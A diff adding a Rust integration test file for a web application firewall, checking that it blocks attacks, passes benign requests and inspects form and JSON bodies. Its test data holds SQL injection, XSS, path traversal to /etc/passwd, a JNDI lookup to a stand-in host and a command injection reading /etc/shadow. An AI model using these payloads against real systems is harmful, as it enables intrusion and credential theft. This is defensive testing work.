@@ -1,0 +1,179 @@
+//! The WAF between a client and an origin.
+
+use seawall_tests::{Edge, Origin, Running};
+
+fn guarded(origin: &Origin, mode: &str) -> Running {
+    Edge::yaml(format!(
+        "wafs: {{ default: {{ rules: builtin, mode: {mode} }} }}\nsites: [{{ host: a.test, waf: default, to: \"{origin}\" }}]"
+    ))
+    .start()
+}
+
+const ATTACKS: &[&str] = &[
+    "/search?q=%27%20or%201%3D1--",
+    "/?id=1%20union%20select%20password%20from%20users",
+    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/?f=../../../../etc/passwd",
+    "/?x=$%7Bjndi:ldap://evil.test/a%7D",
+    "/?cmd=;cat%20/etc/shadow",
+];
+
+const BENIGN: &[&str] = &[
+    "/",
+    "/search?q=wool+coat",
+    "/search?q=rock+%26+roll",
+    "/product/o-neill-select-tee",
+    "/?q=it%27s+a+union+jack",
+    "/?email=a.b%2Bc@d.example&price=10-20",
+];
+
+fn post(kind: &str, body: &str) -> String {
+    format!(
+        "POST /form HTTP/1.1\r\nHost: a.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+#[test]
+fn an_attack_is_refused_with_an_id_and_never_reaches_the_origin() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "block");
+    for attack in ATTACKS {
+        let response = edge.get("a.test", attack);
+        assert_eq!(response.status, 403, "{attack}");
+        assert!(response.text().contains("Request id: "), "{attack}");
+        assert!(
+            !response.text().contains("script>alert"),
+            "nothing of the request is repeated"
+        );
+    }
+    assert_eq!(origin.connections(), 0);
+    let denied = edge.metric("seawall_waf_requests_total{action=\"denied\",site=\"a.test\"}");
+    assert_eq!(denied, ATTACKS.len() as u64);
+    let line = edge.logged("waf: request denied by rule");
+    let page = edge.get("a.test", ATTACKS[0]).text();
+    let id = page
+        .split("Request id: ")
+        .nth(1)
+        .and_then(|t| t.split('<').next())
+        .unwrap();
+    assert!(line.contains("request id: "), "{line}");
+    edge.logged(&format!("request id: {id}"));
+}
+
+#[test]
+fn ordinary_requests_pass() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "block");
+    for target in BENIGN {
+        assert_eq!(edge.get("a.test", target).status, 200, "{target}");
+        assert_eq!(origin.last().target, *target);
+    }
+}
+
+#[test]
+fn detect_logs_and_counts_and_lets_through() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "detect");
+    assert_eq!(edge.get("a.test", ATTACKS[0]).status, 200);
+    assert_eq!(origin.hits("/search"), 1);
+    edge.logged("would be denied");
+    assert_eq!(
+        edge.metric("seawall_waf_requests_total{action=\"detected\",site=\"a.test\"}"),
+        1
+    );
+    // A body behind an attack in the head still arrives.
+    let body = "note=hello";
+    let request = post("application/x-www-form-urlencoded", body).replace("/form", ATTACKS[0]);
+    assert_eq!(edge.exchange(request).status, 200);
+    assert_eq!(origin.last().body, body.as_bytes());
+}
+
+#[test]
+fn forms_and_json_are_looked_into() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "block");
+    let form = "application/x-www-form-urlencoded";
+    for (kind, body) in [
+        (form, "name=x&comment=%3Cscript%3Ealert(1)%3C/script%3E"),
+        (form, "id=1+union+select+password+from+users"),
+        ("application/json", r#"{"a": {"b": ["x", "' or 1=1--"]}}"#),
+        (
+            "application/json; charset=utf-8",
+            r#"{"c": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
+        ),
+    ] {
+        assert_eq!(edge.exchange(post(kind, body)).status, 403, "{kind} {body}");
+    }
+    assert_eq!(origin.connections(), 0);
+}
+
+#[test]
+fn an_inspected_body_reaches_the_origin_byte_for_byte() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "block");
+    let form = "application/x-www-form-urlencoded";
+    // Past 8 KiB another thread inspects, past 64 KiB the spool is a file, past 128 KiB the rest streams.
+    for length in [1, 100, 9_000, 70_000, 300_000, 2_000_000] {
+        let body = format!("text={}", "lorem+ipsum+".repeat(length / 12 + 1));
+        let response = edge.exchange(post(form, &body));
+        assert_eq!(response.status, 200, "{length}");
+        assert!(origin.last().body == body.as_bytes(), "{length}");
+    }
+    let mut client = edge.client();
+    client.send(format!("POST /form HTTP/1.1\r\nHost: a.test\r\nContent-Type: {form}\r\nTransfer-Encoding: chunked\r\n\r\n"));
+    let piece = format!("text={}&", "wool+".repeat(3000));
+    for _ in 0..20 {
+        client.send(format!("{:x}\r\n{piece}\r\n", piece.len()));
+    }
+    assert_eq!(client.send("0\r\n\r\n").response().status, 200);
+    assert!(origin.last().body == piece.repeat(20).as_bytes());
+}
+
+#[test]
+fn an_attack_in_a_spooled_body_is_found() {
+    let origin = Origin::start();
+    let edge = guarded(&origin, "block");
+    let body = format!("text={}&q=%27+or+1%3D1--", "lorem+ipsum+".repeat(7_000));
+    assert_eq!(
+        edge.exchange(post("application/x-www-form-urlencoded", &body))
+            .status,
+        403
+    );
+    assert_eq!(origin.connections(), 0);
+}
+
+#[test]
+fn a_route_may_have_another_mode() {
+    let origin = Origin::start();
+    let edge = Edge::yaml(format!(
+        "wafs: {{ strict: {{ mode: block }} }}
+sites:
+  - host: a.test
+    waf: strict
+    routes:
+      - {{ path: /free, to: \"{origin}\", waf: off }}
+      - {{ path: /, to: \"{origin}\" }}"
+    ))
+    .start();
+    let attack = "?q=%27%20or%201%3D1--";
+    assert_eq!(edge.get("a.test", &format!("/free{attack}")).status, 200);
+    assert_eq!(edge.get("a.test", &format!("/{attack}")).status, 403);
+}
+
+#[test]
+fn rules_of_ones_own_are_read_from_files() {
+    let origin = Origin::start();
+    let edge = Edge::yaml(format!(
+        "wafs: {{ own: {{ rules: [rules/own.conf], mode: block, report_header: X-Rules }} }}
+sites: [{{ host: a.test, waf: own, to: \"{origin}\" }}]"
+    ));
+    edge.write(
+        "rules/own.conf",
+        "SecRule ARGS:word \"@streq forbidden\" \"id:7,phase:1,deny,status:406,msg:'no'\"\n",
+    );
+    let edge = edge.start();
+    assert_eq!(edge.get("a.test", "/?word=allowed").status, 200);
+    let refused = edge.get("a.test", "/?word=forbidden");
+    assert_eq!((refused.status, refused.has("X-Rules")), (406, "7"));
+}
